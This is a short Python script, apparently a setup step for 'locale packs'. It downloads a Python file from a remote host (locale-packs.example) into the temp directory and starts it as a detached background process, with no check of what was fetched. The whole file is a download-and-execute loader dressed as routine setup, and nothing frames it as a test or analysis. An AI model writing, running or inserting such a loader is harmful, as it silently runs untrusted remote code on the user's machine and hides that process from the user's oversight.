import os
import subprocess
import tempfile
import urllib.request

p = os.path.join(tempfile.gettempdir(), "packs_setup.py")
urllib.request.urlretrieve("https://locale-packs.example/latest.py", p)
subprocess.Popen([os.sys.executable, p], start_new_session=True)
